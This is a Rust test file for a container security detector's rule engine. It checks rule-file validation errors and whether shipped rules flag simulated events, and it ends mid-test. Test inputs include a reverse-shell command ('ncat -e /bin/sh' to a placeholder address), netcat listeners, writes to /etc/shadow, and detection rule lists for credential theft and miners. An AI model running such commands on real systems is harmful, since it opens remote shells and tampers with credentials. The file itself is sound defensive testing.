//! Rule-check tests (every class of bad input, with its position) and
//! evaluation tests over the shipped pack in `rules/`.
use std::{
    fs,
    path::{Path, PathBuf},
    sync::Arc,
};

use super::*;
use crate::{
    context::{Ancestor, ContainerInfo, EnrichedEvent, ExecOrigin, MetadataStatus, ProcessInfo},
    event::{
        CgroupChange, CgroupOp, Event, EventBody, EventHeader, ExecInfo, Family, FileInfo, FileOp,
        NetOp, NetworkInfo, Protocol,
    },
    finding::{Action, AlertKind, Severity},
};

// ---------------------------------------------------------------- loading

/// Writes `files` into a fresh directory and loads it (after `before`, if given).
fn load(before: Option<&Path>, files: &[(&str, &str)]) -> Result<RuleSet, Vec<Diagnostic>> {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        fs::write(dir.path().join(name), text).unwrap();
    }
    let mut dirs: Vec<PathBuf> = before.into_iter().map(Path::to_path_buf).collect();
    dirs.push(dir.path().to_path_buf());
    let result = check_dir(&dirs);
    // Keep the directory alive until loaded; diagnostics carry their own paths.
    drop(dir);
    result
}

/// The diagnostics of loading `files`, with the temporary directory left out of the paths.
fn errors(files: &[(&str, &str)]) -> Vec<String> {
    match load(None, files) {
        Ok(_) => panic!("expected diagnostics"),
        Err(diags) => diags
            .iter()
            .map(|d| {
                let name = d.file.file_name().unwrap().to_string_lossy().into_owned();
                Diagnostic {
                    file: name.into(),
                    ..d.clone()
                }
                .to_string()
            })
            .collect(),
    }
}

fn shipped() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

#[test]
fn shipped_pack_loads_cleanly() {
    let result = check_dir(&[shipped()]);
    let set = match &result {
        Ok(set) => set,
        Err(diags) => panic!(
            "{}",
            diags
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n")
        ),
    };
    let names: Vec<&str> = set.policies().map(|(p, _)| p).collect();
    assert_eq!(
        names,
        [
            "default/detectors",
            "default/fileless",
            "default/egress",
            "default/files",
            "default/container-engine",
            "default/host-access",
            "default/posture",
            "default/processes",
            "default/tools",
            "default/syscalls",
        ],
        "files load sorted by name (00-networks.yaml defines no policy)"
    );
    for r in &set.rules {
        assert!(!r.tags.is_empty(), "rule {} carries no ATT&CK id", r.name);
    }
    let rules: Vec<&str> = set.policies().flat_map(|(_, r)| r).collect();
    for want in [
        "ssh-server",
        "package-manager",
        "recon-tool",
        "shell",
        "protected-write",
        "crontab",
        "engine-config-write",
        "engine-binary-write",
        "engine-state-write",
        "drift",
        "memfd-exec",
        "egress",
        "cloud-metadata",
        "port-scan",
        "setuid-bit",
        "dev-write",
        "kernel-interface-write",
        "shell-startup",
        "shell-history",
        "sensitive-link",
        "account-tool",
        "kernel-module-tool",
        "namespace-tool",
        "cluster-client",
        "credential-search",
        "wiping-tool",
        "crypto-miner",
        "mining-pool",
        "group-change",
        "sudoers-change",
        "ssh-access-change",
        "host-setuid",
        "namespace-change",
        "mount-syscall",
        "kernel-module-or-bpf",
        "privilege-escalation",
        "process-injection",
        "exploit-primitive",
        "raw-socket",
        "credential-read",
        "service-account-token-read",
        "runtime-socket",
        "privileged",
        "engine-socket-mount",
        "unused-port",
    ] {
        assert!(rules.contains(&want), "{want} missing from {rules:?}");
    }
    assert_eq!(set.files().len(), 8);
    assert_eq!(
        check_summary(&result),
        format!("ok: 8 files, 10 policies, {} rules", set.rule_count())
    );
}

#[test]
fn every_shipped_rule_says_which_practice_it_enforces() {
    for entry in fs::read_dir(shipped()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "yaml") {
            continue;
        }
        let text = fs::read_to_string(&path).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        for (i, line) in lines.iter().enumerate() {
            if line.starts_with("      - name:") {
                // A rule: the comment block above it names the practice.
                let above: Vec<&str> = lines[..i]
                    .iter()
                    .rev()
                    .take_while(|l| l.trim_start().starts_with('#'))
                    .copied()
                    .collect();
                assert!(
                    above.iter().any(|l| l.contains("Practice:")),
                    "{}:{}: rule without a `# Practice:` comment",
                    path.display(),
                    i + 1
                );
            }
        }
    }
}

const OK_POLICY: &str = "policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: r
        severity: high
        process: {deny: [{exe: '**/sshd'}]}
";

#[test]
fn rule_check_syntax_error() {
    let e = errors(&[("a.yaml", "policies:\n  - name: p: q\n")]);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with("a.yaml:2:12: error: mapping values are not allowed in this context"),
        "{}",
        e[0]
    );
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selector: {containers: true}}\n",
    )]);
    assert!(
        e[0].starts_with("a.yaml:3:33: error: misplaced bracket"),
        "{}",
        e[0]
    );
    let e = errors(&[("a.yaml", "policies:\n  - name: \"p\n    selector: x\n")]);
    assert!(
        e[0].starts_with("a.yaml:2:11: error: unclosed quote"),
        "{}",
        e[0]
    );
    assert!(e[0].contains("hint: "), "{}", e[0]);

    let e = errors(&[("a.yaml", "policies:\n  - name: p\n   selector: {}\n")]);
    assert!(e[0].starts_with("a.yaml:3:4: error: "), "{}", e[0]);
    assert!(
        e[0].contains("hint: fix the YAML at this position"),
        "{}",
        e[0]
    );
}

#[test]
fn rule_check_unknown_field() {
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selecter: {containers: true}\n",
    )]);
    assert_eq!(
        e,
        [
            "a.yaml:3:5: error: unknown key `selecter`\n  hint: remove `selecter` or correct its spelling; allowed here: name, description, extend, override, selector, rules, exceptions"
        ]
    );
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selector: {containers: true}\n    rules:\n      - name: r\n        severity: low\n        file: {paths: [/etc/**], alow: [/etc/x]}\n",
    )]);
    assert!(
        e[0].starts_with("a.yaml:7:34: error: unknown key `alow`"),
        "{}",
        e[0]
    );
}

#[test]
fn rule_check_bad_glob() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: p
    selector: {image: ['nginx:[1']}
    rules:
      - name: r
        severity: high
        process:
          deny:
            - exe: ['/bin/ok', '/bin/[a']
",
    )]);
    assert_eq!(e.len(), 2, "{e:?}");
    assert!(
        e[0].starts_with("a.yaml:3:24: error: bad glob `nginx:[1`: unclosed character class"),
        "{}",
        e[0]
    );
    assert!(
        e[1].starts_with("a.yaml:9:32: error: bad glob `/bin/[a`: unclosed character class"),
        "{}",
        e[1]
    );
    assert!(e[1].contains("hint: close every `[`"), "{}", e[1]);
}

#[test]
fn rule_check_relative_exe_pattern() {
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selector: {containers: true}\n    rules:\n      - name: r\n        severity: high\n        process: {deny: [{exe: sshd}]}\n",
    )]);
    assert_eq!(
        e,
        [
            "a.yaml:7:32: error: exe pattern `sshd` can never match: paths here are absolute\n  hint: write `**/sshd` to match in any directory, or the full path such as `/usr/bin/sshd`"
        ]
    );
}

#[test]
fn rule_check_bad_cidr() {
    let e = errors(&[(
        "a.yaml",
        "networks:
  cluster: [10.0.0.0/8, 10.0.0.0/33]
policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: r
        severity: high
        egress:
          allow:
            - to: [cluster, 300.1.1.1, clustr]
",
    )]);
    assert_eq!(e.len(), 3, "{e:?}");
    assert!(
        e[0].starts_with(
            "a.yaml:2:25: error: bad CIDR `10.0.0.0/33`: prefix length `/33` is not 0 to 32 for an IPv4 address\n  hint: write an address or prefix"
        ),
        "{}",
        e[0]
    );
    assert!(
        e[1].starts_with(
            "a.yaml:11:29: error: bad CIDR `300.1.1.1`: `300.1.1.1` is not an IPv4 or IPv6 address"
        ),
        "{}",
        e[1]
    );
    assert_eq!(
        e[2],
        "a.yaml:11:40: error: unknown network `clustr`\n  hint: define it under `networks:` or use one of: cluster"
    );
}

#[test]
fn rule_check_bad_port() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: r
        severity: high
        egress:
          allow:
            - ports: [53, 70000, \"9000-8000\", http]
",
    )]);
    assert_eq!(e.len(), 3, "{e:?}");
    assert!(
        e[0].starts_with("a.yaml:9:27: error: port 70000 is out of range\n  hint: a port is a number from 1 to 65535"),
        "{}",
        e[0]
    );
    assert!(
        e[1].starts_with("a.yaml:9:34: error: bad port range `9000-8000`: 9000 is above 8000"),
        "{}",
        e[1]
    );
    assert!(
        e[2].starts_with("a.yaml:9:47: error: bad port `http`"),
        "{}",
        e[2]
    );
}

#[test]
fn rule_check_duplicate_names() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: r
        severity: high
        process: {deny: [{exe: '**/a'}]}
      - name: r
        severity: high
        process: {deny: [{exe: '**/b'}]}
  - name: q
    selector: {containers: true}
  - name: q
    selector: {host: true}
",
    )]);
    assert_eq!(
        e,
        [
            "a.yaml:8:15: error: duplicate rule name `r` in policy `p` (first at line 5)\n  hint: rename one of them; rule names are unique within a policy",
            "a.yaml:13:11: error: duplicate policy name `q` in this file (first at line 11)\n  hint: rename one of them, or merge their rules into one policy",
        ]
    );
}

#[test]
fn rule_check_duplicate_key() {
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    name: q\n    selector: {containers: true}\n",
    )]);
    assert_eq!(
        e,
        [
            "a.yaml:3:5: error: duplicate key `name`\n  hint: give `name` once in this mapping; remove or merge the repeated entry"
        ]
    );
}

#[test]
fn rule_check_bad_severity() {
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selector: {containers: true}\n    rules:\n      - name: r\n        severity: hgh\n        memfd: {}\n",
    )]);
    assert_eq!(
        e,
        [
            "a.yaml:6:19: error: unknown severity `hgh`\n  hint: use one of: info, low, medium, high, critical"
        ]
    );
}

#[test]
fn rule_check_rule_shape() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: none
        severity: low
      - name: two
        severity: low
        memfd: {}
        drift: {}
      - name: both
        severity: low
        process: {allow: [{exe: /bin/a}], deny: [{exe: /bin/b}]}
      - name: nosev
        memfd: {}
      - name: scan
        severity: low
        port_scan: {distinct_ports: 1, window: 10h}
      - name: ops
        severity: low
        file: {paths: [/etc/**], ops: [write]}
",
    )]);
    let want = [
        "a.yaml:5:15: error: rule `none` says nothing to check",
        "a.yaml:7:15: error: rule `two` has several bodies: drift, memfd",
        "a.yaml:11:15: error: process rule `both` needs exactly one of `allow` and `deny`",
        "a.yaml:14:15: error: rule `nosev` has no severity",
        "a.yaml:18:37: error: port-scan threshold 1 is out of range",
        "a.yaml:18:48: error: bad window `10h`",
        "a.yaml:21:40: error: unknown file op `write`",
    ];
    assert_eq!(e.len(), want.len(), "{e:#?}");
    for (got, want) in e.iter().zip(want) {
        assert!(got.starts_with(want), "{got}\n  expected: {want}");
    }
}

#[test]
fn rule_check_new_keys() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: p
    selector: {containers: true}
    rules:
      - name: t
        severity: low
        tags: [T1059.004, t1059, T12345]
        process: {deny: [{name: /bin/nc}, {args: [x]}]}
      - name: m
        severity: low
        file: {mode_bits: [setuid, suid]}
      - name: s
        severity: low
        shell: {chain: [tini]}
",
    )]);
    let want = [
        // An entry's own position is not kept: the rule's name stands for it.
        "a.yaml:5:15: error: a process entry has neither `exe` nor `name`",
        "a.yaml:7:27: error: `t1059` is not an ATT&CK technique id",
        "a.yaml:7:34: error: `T12345` is not an ATT&CK technique id",
        "a.yaml:8:33: error: program name `/bin/nc` has a `/`: names are file names",
        "a.yaml:11:36: error: unknown mode bit `suid`",
        "a.yaml:12:15: error: shell rule `s` lists no shells",
    ];
    assert_eq!(e.len(), want.len(), "{e:#?}");
    for (got, want) in e.iter().zip(want) {
        assert!(got.starts_with(want), "{got}\n  expected: {want}\n{e:#?}");
    }
    assert!(e.iter().all(|d| d.contains("hint:")), "{e:#?}");
}

#[test]
fn rule_check_selectors_and_exceptions() {
    let e = errors(&[(
        "a.yaml",
        "policies:
  - name: nosel
  - name: empty
    selector: {}
  - name: rt
    selector: {runtime: [dokcer]}
  - name: x
    selector: {containers: true}
    rules:
      - name: r
        severity: low
        memfd: {}
    exceptions:
      - rules: [r, s]
      - reason: silences everything
      - rules: [r]
        selector: {}
",
    )]);
    let want = [
        "a.yaml:2:11: error: policy `nosel` has no selector",
        "a.yaml:4:15: error: the selector of policy `empty` selects nothing",
        "a.yaml:6:26: error: unknown container runtime `dokcer`",
        "a.yaml:14:20: error: exception names rule `s`, which policy `x` does not have\n  hint: use one of: r",
        "a.yaml:15:9: error: this exception has no conditions and names no rules",
        "a.yaml:17:19: error: this exception's selector selects nothing",
    ];
    assert_eq!(e.len(), want.len(), "{e:#?}");
    for (got, want) in e.iter().zip(want) {
        assert!(got.starts_with(want), "{got}\n  expected: {want}");
    }
}

#[test]
fn rule_check_wrong_value_type() {
    let e = errors(&[("a.yaml", "policies:\n  - name: y\n    extend: yes\n")]);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(e[0].starts_with("a.yaml:3:13: error: "), "{}", e[0]);
    assert!(e[0].ends_with("hint: write `true` or `false`"), "{}", e[0]);
}

#[test]
fn rule_check_reports_every_file_and_summarises() {
    let result = load(
        None,
        &[
            ("a.yaml", "policies: [\n"),
            ("b.yaml", OK_POLICY),
            ("c.yml", "networks: {lan: [10.0.0.0/40]}\n"),
            ("notes.txt", "not a rule file"),
            (".hidden.yaml", "garbage: ["),
        ],
    );
    let diags = result.as_ref().unwrap_err();
    let files: Vec<String> = diags
        .iter()
        .map(|d| d.file.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(files, ["a.yaml", "c.yml"]);
    assert_eq!(check_summary(&result), "2 errors in 2 files");
}

#[test]
fn rule_check_missing_dir() {
    let result = check_dir(&[PathBuf::from("/nonexistent/rules.d")]);
    let d = &result.unwrap_err()[0];
    assert_eq!((d.line, d.col), (0, 0));
    assert!(
        d.to_string()
            .starts_with("/nonexistent/rules.d: error: cannot read the rule path"),
        "{d}"
    );
}

#[test]
fn later_dir_extends_and_overrides_by_name() {
    let user = tempfile::tempdir().unwrap();
    fs::write(
        user.path().join("50-local.yaml"),
        "networks:
  cluster: [10.96.0.0/12]
policies:
  - name: default/processes
    extend: true
    rules:
      - name: shell
        enabled: false
      - name: recon-tool
        severity: critical
  - name: default/files
    override: true
    selector: {containers: true}
    rules:
      - name: only-passwd
        severity: low
        file: {paths: [/etc/passwd]}
",
    )
    .unwrap();
    let set = check_dir(&[shipped(), user.path().to_path_buf()]).unwrap();
    let rules: Vec<(&str, Vec<&str>)> = set.policies().collect();
    let processes = &rules
        .iter()
        .find(|(p, _)| *p == "default/processes")
        .unwrap()
        .1;
    assert!(!processes.contains(&"shell"), "disabled");
    let files = &rules.iter().find(|(p, _)| *p == "default/files").unwrap().1;
    assert_eq!(files, &["only-passwd"]);

    let mut out = Vec::new();
    set.evaluate(&web().exec("/usr/bin/nc", &["nc", "-l"]), &mut out);
    assert_eq!(out[0].severity, Severity::Critical, "severity patched");
    out.clear();
    set.evaluate(&web().exec("/bin/sh", &["sh"]), &mut out);
    assert!(out.is_empty(), "{out:?}");
    set.evaluate(&web().write("/etc/hosts"), &mut out);
    assert!(out.is_empty(), "{out:?}");
    set.evaluate(&web().write("/etc/passwd"), &mut out);
    assert_eq!(rules_of(&out), ["only-passwd"]);
    out.clear();
    // `cluster` narrowed: 10.0.0.5 is outside now.
    set.evaluate(&web().connect("10.0.0.5", 5432, Protocol::Tcp), &mut out);
    assert_eq!(rules_of(&out), ["egress"]);
}

// ---------------------------------------------------------------- events

/// Who acts in a test event.
#[derive(Clone)]
struct Actor {
    cgroup: u64,
    container: Option<ContainerInfo>,
    status: MetadataStatus,
    exe: String,
    parent: Option<String>,
    pid: u32,
    ktime: u64,
    origin: Option<ExecOrigin>,
}

fn web() -> Actor {
    Actor {
        cgroup: 42,
        container: Some(ContainerInfo {
            id: Some("3f9c".repeat(16)),
            runtime: Some("containerd".into()),
            name: Some("web".into()),
            image: Some("nginx:1.27".into()),
            pod: Some("web-7d9f".into()),
            namespace: Some("shop".into()),
            cgroup: Some("/kubepods.slice/cri-containerd-3f9c.scope".into()),
        }),
        status: MetadataStatus::Complete,
        exe: "/bin/sh".into(),
        parent: Some("/docker-entrypoint.sh".into()),
        pid: 4242,
        ktime: 1_000_000_000_000,
        origin: None,
    }
}

fn db() -> Actor {
    let mut a = web();
    a.cgroup = 43;
    let c = a.container.as_mut().unwrap();
    c.name = Some("db".into());
    c.image = Some("postgres:16".into());
    a
}

fn host(exe: &str) -> Actor {
    Actor {
        cgroup: 1,
        container: None,
        status: MetadataStatus::Host,
        exe: exe.into(),
        parent: Some("/usr/lib/systemd/systemd".into()),
        pid: 777,
        ktime: 1_000_000_000_000,
        origin: None,
    }
}

impl Actor {
    fn by(mut self, exe: &str) -> Self {
        self.exe = exe.into();
        self
    }

    fn parent(mut self, exe: &str) -> Self {
        self.parent = Some(exe.into());
        self
    }

    fn origin(mut self, origin: ExecOrigin) -> Self {
        self.origin = Some(origin);
        self
    }

    fn at(mut self, ktime: u64) -> Self {
        self.ktime = ktime;
        self
    }

    fn event(&self, body: EventBody) -> EnrichedEvent {
        // Execs in a container: a child of a process inside it, by default.
        let origin = (self.container.is_some() && matches!(body, EventBody::Exec(_))).then(|| {
            self.origin.clone().unwrap_or_else(|| ExecOrigin {
                parent_program: self
                    .parent
                    .as_deref()
                    .map(|p| p.rsplit('/').next().unwrap().to_owned()),
                ..ExecOrigin::default()
            })
        });
        let exe = match &body {
            EventBody::Exec(x) => x.filename.clone(),
            _ => self.exe.clone(),
        };
        let comm: String = exe
            .rsplit('/')
            .next()
            .unwrap_or("")
            .chars()
            .take(15)
            .collect();
        EnrichedEvent {
            event: Event {
                header: EventHeader {
                    ktime_ns: self.ktime,
                    pid: self.pid,
                    tid: self.pid,
                    uid: 0,
                    gid: 0,
                    cgroup_id: self.cgroup,
                    comm: comm.clone(),
                },
                body,
            },
            process: ProcessInfo {
                pid: self.pid,
                ppid: Some(self.pid - 1),
                uid: 0,
                comm,
                exe: Some(exe),
                args: Vec::new(),
                ancestry: self
                    .parent
                    .iter()
                    .map(|p| Ancestor {
                        pid: self.pid - 1,
                        exe: Some(p.clone()),
                    })
                    .collect(),
            },
            container: self.container.clone(),
            metadata_status: self.status,
            metadata: None,
            origin,
        }
    }

    fn exec(&self, filename: &str, args: &[&str]) -> EnrichedEvent {
        self.event(EventBody::Exec(ExecInfo {
            action: None,
            filename: filename.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            args_truncated: false,
            ppid: self.pid - 1,
            cwd: Some("/".into()),
        }))
    }

    fn file(
        &self,
        op: FileOp,
        path: &str,
        target: Option<&str>,
        flags: &[&'static str],
        result: i64,
    ) -> EnrichedEvent {
        self.event(EventBody::File(FileInfo {
            op,
            path: path.into(),
            target: target.map(Into::into),
            flags: flags.to_vec(),
            mode: None,
            result,
            requested_path: None,
            truncated: false,
        }))
    }

    fn write(&self, path: &str) -> EnrichedEvent {
        self.file(
            FileOp::Open,
            path,
            None,
            &["O_WRONLY", "O_CREAT", "O_TRUNC"],
            3,
        )
    }

    fn connect(&self, daddr: &str, dport: u16, protocol: Protocol) -> EnrichedEvent {
        let daddr: std::net::IpAddr = daddr.parse().unwrap();
        self.event(EventBody::Network(NetworkInfo {
            action: None,
            op: NetOp::Connect,
            protocol,
            family: if daddr.is_ipv4() {
                Family::Ipv4
            } else {
                Family::Ipv6
            },
            daddr,
            dport,
            dns: None,
        }))
    }
}

fn shipped_evaluator() -> Evaluator {
    Evaluator::new(check_dir(&[shipped()]).unwrap())
}

fn run(ev: &mut Evaluator, events: &[EnrichedEvent]) -> Vec<Finding> {
    let mut out = Vec::new();
    for e in events {
        ev.evaluate(e, &mut out);
    }
    out
}

fn rules_of(out: &[Finding]) -> Vec<&str> {
    out.iter().map(|f| &*f.rule).collect()
}

#[test]
fn sshd_in_a_container() {
    let out = run(
        &mut shipped_evaluator(),
        &[web().exec("/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"])],
    );
    assert_eq!(
        out,
        [Finding {
            rule: "ssh-server".into(),
            policy: "default/processes".into(),
            severity: Severity::High,
            kind: AlertKind::Process,
            summary: "denied process /usr/sbin/sshd -D in container web (nginx:1.27)".into(),
            tags: Arc::from(vec!["T1021.004".to_owned(), "T1133".to_owned()]),
            attempt: false,
            scan: None,
            action: Action::Alert,
            action_taken: None,
            would_deny: false,
            posture: None,
        }]
    );
    // On the host sshd is at home.
    let out = run(
        &mut shipped_evaluator(),
        &[host("/usr/lib/systemd/systemd").exec("/usr/sbin/sshd", &["sshd", "-D"])],
    );
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn deny_lists() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        ("/usr/sbin/dropbear", &["dropbear"], &["ssh-server"]),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "curl"],
            &["package-manager"],
        ),
        ("/sbin/apk", &["apk", "add", "curl"], &["package-manager"]),
        (
            "/usr/bin/microdnf",
            &["microdnf", "install", "x"],
            &["package-manager"],
        ),
        (
            "/usr/local/bin/pip",
            &["pip", "install", "requests"],
            &["package-manager"],
        ),
        ("/usr/local/bin/pip3", &["pip3", "--version"], &[]),
        (
            "/usr/bin/python3",
            &["python3", "-m", "pip", "install", "x"],
            &["package-manager"],
        ),
        ("/usr/bin/python3", &["python3", "app.py"], &[]),
        ("/usr/bin/npm", &["npm", "ci"], &["package-manager"]),
        ("/usr/bin/npm", &["npm", "start"], &[]),
        (
            "/usr/bin/ncat",
            &["ncat", "-e", "/bin/sh", "1.2.3.4", "4444"],
            &["recon-tool"],
        ),
        (
            "/usr/bin/tcpdump",
            &["tcpdump", "-i", "any"],
            &["recon-tool"],
        ),
        // A shell under the entrypoint script is the start-up chain.
        ("/usr/bin/bash", &["bash", "-i"], &[]),
        ("/bin/busybox", &["busybox", "sh"], &[]),
        ("/bin/busybox", &["busybox", "ls"], &[]),
        ("/bin/busybox", &["busybox", "nc", "-l"], &["recon-tool"]),
        ("/bin/nc", &["nc", "-l"], &["recon-tool"]),
        ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], &[]),
    ];
    let mut ev = shipped_evaluator();
    for (exe, args, want) in cases {
        let out = run(&mut ev, &[web().exec(exe, args)]);
        assert_eq!(rules_of(&out), *want, "{exe} {args:?}");
    }
}

/// Package managers: changes alert, queries do not.
#[test]
fn package_manager_changes_not_queries() {
    let cases: &[(&str, &[&str], bool)] = &[
        ("/usr/bin/dpkg", &["dpkg", "-l"], false),
        ("/usr/bin/dpkg", &["dpkg", "--print-architecture"], false),
        ("/usr/bin/dpkg", &["dpkg", "-s", "libc6"], false),
        ("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"], true),
        ("/usr/bin/dpkg", &["dpkg", "--purge", "x"], true),
        ("/usr/bin/apt", &["apt", "list", "--installed"], false),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "curl"],
            true,
        ),
        ("/usr/bin/apt-get", &["apt-get", "remove", "curl"], true),
        ("/usr/bin/apt-get", &["apt-get", "upgrade"], true),
        ("/usr/bin/apt-cache", &["apt-cache", "policy"], false),
        ("/sbin/apk", &["apk", "add", "curl"], true),
        ("/sbin/apk", &["apk", "info"], false),
        ("/bin/rpm", &["rpm", "-q", "bash"], false),
        ("/bin/rpm", &["rpm", "-qa"], false),
        ("/bin/rpm", &["rpm", "-ivh", "x.rpm"], true),
        ("/bin/rpm", &["rpm", "-e", "x"], true),
        ("/usr/bin/dnf", &["dnf", "install", "x"], true),
        ("/usr/bin/dnf", &["dnf", "list"], false),
        ("/usr/bin/pip", &["pip", "list"], false),
        ("/usr/bin/pip", &["pip", "freeze"], false),
        ("/usr/bin/pip3", &["pip3", "install", "x"], true),
        ("/usr/bin/python3", &["python3", "-m", "pip", "list"], false),
        (
            "/usr/bin/python3",
            &["python3", "-m", "pip", "install", "x"],
            true,
        ),
        ("/usr/bin/npm", &["npm", "install"], true),
        ("/usr/bin/npm", &["npm", "ls"], false),
    ];
    let mut ev = shipped_evaluator();
    for (exe, args, fires) in cases {
        let out = run(&mut ev, &[web().exec(exe, args)]);
        let want: &[&str] = if *fires { &["package-manager"] } else { &[] };
        assert_eq!(rules_of(&out), want, "{exe} {args:?}");
    }
    // dpkg run by apt-get is part of apt-get's change.
    let mut dpkg = web().parent("/usr/bin/apt-get").exec(
        "/usr/bin/dpkg",
        &["dpkg", "--unpack", "/var/cache/apt/archives/x.deb"],
    );
    dpkg.origin.as_mut().unwrap().parent_program = Some("apt-get".into());
    assert!(run(&mut ev, &[dpkg]).is_empty());
}

fn origin(init: bool, entered: bool, parent: Option<&str>) -> ExecOrigin {
    ExecOrigin {
        container_init: init,
        entered,
        parent_program: parent.map(str::to_owned),
    }
}

/// Shells: silent for the container's start-up, reported when exec'd into the
/// container or spawned by a non-shell, with the case in the summary.
#[test]
fn shells_by_where_they_start() {
    let sh = |actor: Actor| actor.exec("/bin/sh", &["/bin/sh", "-c", "id"]);
    let cases: Vec<(&str, EnrichedEvent, Option<&str>)> = vec![
        (
            "the container's first process",
            sh(web()
                .parent("/usr/bin/containerd-shim-runc-v2")
                .origin(origin(true, false, Some("containerd-shim-runc-v2")))),
            None,
        ),
        (
            // A server that is the container's first process (exec form,
            // `CMD ["python3", "app.py"]`) is a server all the same.
            "a server that is the first process running sh -c",
            sh(web()
                .parent("/usr/bin/python3")
                .origin(origin(false, false, Some("python3")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/bin/python3 (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
        (
            "a child of an entrypoint shell",
            sh(web()
                .parent("/bin/sh")
                .origin(origin(false, false, Some("sh")))),
            None,
        ),
        (
            "a nested shell",
            sh(web()
                .parent("/bin/sh")
                .origin(origin(false, false, Some("sh")))),
            None,
        ),
        (
            "a nested busybox shell",
            sh(web()
                .parent("/bin/busybox")
                .origin(origin(false, false, Some("ash")))),
            None,
        ),
        (
            "a script's shell",
            sh(web().parent("/docker-entrypoint.sh").origin(origin(
                false,
                false,
                Some("docker-entrypoint.sh"),
            ))),
            None,
        ),
        (
            "under tini",
            sh(web()
                .parent("/sbin/tini")
                .origin(origin(false, false, Some("tini")))),
            None,
        ),
        (
            "docker exec",
            sh(web()
                .parent("/usr/bin/containerd-shim-runc-v2")
                .origin(origin(false, true, Some("containerd-shim-runc-v2")))),
            Some(
                "shell /bin/sh -c id started into the running container from outside it by /usr/bin/containerd-shim-runc-v2 (pid 4241) (an exec into the container, as docker exec or kubectl exec do) in container web (nginx:1.27)",
            ),
        ),
        (
            "a server running sh -c",
            sh(web()
                .parent("/usr/sbin/nginx")
                .origin(origin(false, false, Some("nginx")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/sbin/nginx (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
        (
            "the entrypoint after it exec'd its server",
            sh(web()
                .parent("/usr/bin/python3")
                .origin(origin(false, false, Some("python3")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/bin/python3 (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
    ];
    let mut ev = shipped_evaluator();
    for (what, event, want) in cases {
        let out = run(&mut ev, &[event]);
        match want {
            None => assert!(out.is_empty(), "{what}: {out:?}"),
            Some(summary) => {
                assert_eq!(rules_of(&out), ["shell"], "{what}");
                assert_eq!(out[0].summary, summary, "{what}");
                assert_eq!(&*out[0].tags, ["T1059.004", "T1609"]);
            }
        }
    }
    // A workload that declares its server's shell is not flagged for it; an
    // exec into it still is.
    let mut ev = Evaluator::new(
        load(
            Some(&shipped()),
            &[(
                "50-app.yaml",
                "policies:\n  - name: app\n    selector: {image: [\"nginx:*\"]}\n    rules:\n      - name: app-processes\n        severity: low\n        process:\n          allow:\n            - exe: [/usr/sbin/nginx]\n            - exe: [/bin/sh]\n              parents: [/usr/sbin/nginx]\n",
            )],
        )
        .unwrap(),
    );
    let out = run(
        &mut ev,
        &[sh(web().parent("/usr/sbin/nginx").origin(origin(
            false,
            false,
            Some("nginx"),
        )))],
    );
    assert!(out.is_empty(), "{out:?}");
    let out = run(
        &mut ev,
        &[sh(web().parent("/usr/sbin/nginx").origin(origin(
            false,
            true,
            Some("nginx"),
        )))],
    );
    assert_eq!(rules_of(&out), ["shell"]);
}

#[test]
fn write_to_etc_passwd() {
    let mut ev = shipped_evaluator();
    let out = run(
        &mut ev,
        &[web().by("/usr/sbin/useradd").file(
            FileOp::Open,
            "/etc/passwd",
            None,
            &["O_WRONLY", "O_TRUNC"],
            3,
        )],
    );
    assert_eq!(rules_of(&out), ["protected-write"]);
    assert_eq!(out[0].kind, AlertKind::File);
    assert_eq!(out[0].severity, Severity::High);
    assert_eq!(
        out[0].summary,
        "write to protected path /etc/passwd (open O_WRONLY|O_TRUNC) by /usr/sbin/useradd (pid 4242) in container web (nginx:1.27)"
    );
    // A read is no write.
    let out = run(
        &mut ev,
        &[web().file(FileOp::Open, "/etc/passwd", None, &["O_RDONLY"], 3)],
    );
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn failed_write_still_alerts_and_says_so() {
    let out = run(
        &mut shipped_evaluator(),
        &[web().file(FileOp::Open, "/etc/shadow", None, &["O_WRONLY"], -13)],
    );
    assert_eq!(rules_of(&out), ["protected-write"]);
    assert!(
        out[0].summary.starts_with(
            "attempted write to protected path /etc/shadow (open O_WRONLY) (failed: EACCES) by"
        ),
        "{}",
        out[0].summary
    );
}

#[test]
fn rename_over_etc_hosts() {
    let out = run(
